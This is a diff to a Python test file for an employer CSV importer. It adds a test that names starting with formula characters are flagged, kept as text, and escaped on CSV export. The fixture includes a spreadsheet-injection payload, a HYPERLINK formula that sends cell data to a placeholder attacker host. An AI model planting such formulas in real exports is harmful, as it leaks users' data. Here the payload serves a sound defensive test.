@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import codecs
+import csv
 import io
 import os
 from pathlib import Path
@@ -16,6 +17,7 @@ from wizard.core.employer_table_import import (
     MSG_BINARY,
     MSG_DUPLICATE_IN_FILE,
     MSG_EMPTY,
+    MSG_FORMULA_START,
     MSG_MISSING_COLUMNS,
     MSG_NOT_A_FILE,
     MSG_OLD_EXCEL,
@@ -29,6 +31,7 @@ from wizard.core.employer_table_import import (
     read_employer_file,
     template_csv,
 )
+from wizard.core.login_check_summary import LoginOutcome, LoginSummary, summaries_csv
 from wizard.core.model import Employer
 
 GOOD_ROWS = [
@@ -112,6 +115,41 @@ def test_duplicate_usernames_and_existing_employers_are_reported_not_overwritten
     assert employers[0].domain == "bb"
     # Importing the same file again adds nothing.
     assert add_importable(employers, table) == []
+
+
+def test_a_name_that_a_spreadsheet_would_run_is_kept_as_text_and_flagged() -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    rows = [
+        (f'"{formula.replace(chr(34), chr(34) * 2)}"', "formule", "api@formule.example.nl", ""),
+        ("+Plus Supermarkt", "plus", "api@plus.example.nl", ""),
+        ("Bakkerij -Noord", "noord", "api@noord.example.nl", ""),
+        ("@Home B.V.", "home", "=1+1@home.example.nl", ""),
+    ]
+    table = parse_employer_table(_csv(rows).encode())
+    notes = [
+        [(i.column, dict(i.arguments)["sign"]) for i in row.issues if i.text == MSG_FORMULA_START]
+        for row in table.rows
+    ]
+    assert notes == [
+        [(Column.DEBTOR_NAME, "=")],
+        [(Column.DEBTOR_NAME, "+")],
+        [],  # a '-' inside the name is no formula
+        [(Column.DEBTOR_NAME, "@"), (Column.USERNAME, "=")],
+    ]
+    # A warning, not a refusal: the text is the name, kept exactly as the file has it.
+    assert all(row.verdict is RowVerdict.ADD_WITH_WARNING for row in table.rows[:2])
+    assert table.rows[2].verdict is RowVerdict.ADD
+    employers: list[Employer] = []
+    add_importable(employers, table)
+    assert employers[0].debtor_name == formula
+    # Every CSV export of those names defuses them; the registration file is JSON.
+    summaries = [LoginSummary(e.username, e.debtor_name, LoginOutcome.ALL_GOOD) for e in employers]
+    exported = io.StringIO(summaries_csv(summaries).decode("utf-8-sig"))
+    cells = list(csv.reader(exported, delimiter=";"))
+    names = [row[1] for row in cells[1:]]
+    assert names[0].startswith("'") and names[1] == "'+Plus Supermarkt"
+    assert names[2] == "Bakkerij -Noord"
+    assert cells[4][0] == "'=1+1@home.example.nl"
 
 
 def test_empty_rows_are_skipped_and_counted() -> None:
